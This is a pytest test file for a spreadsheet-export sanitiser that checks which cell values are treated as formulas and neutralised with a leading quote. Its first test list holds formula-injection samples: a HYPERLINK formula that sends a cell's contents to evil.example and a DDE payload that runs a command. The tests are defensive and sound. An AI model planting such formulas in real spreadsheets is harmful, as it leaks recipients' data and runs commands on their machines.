import pytest

from pasar.core.spreadsheet import inert, is_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "- Bu Siti",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=1",
    ],
)
def test_formulas_are_recognised_and_made_inert(text):
    assert is_formula(text)
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["Bu Siti", "-", "--", "-5", "+6281234567890", "-12.5", "1=1", "", "a@b.id"])
def test_numbers_dashes_and_plain_text_stay_as_they_are(text):
    assert not is_formula(text)
    assert inert(text) == text
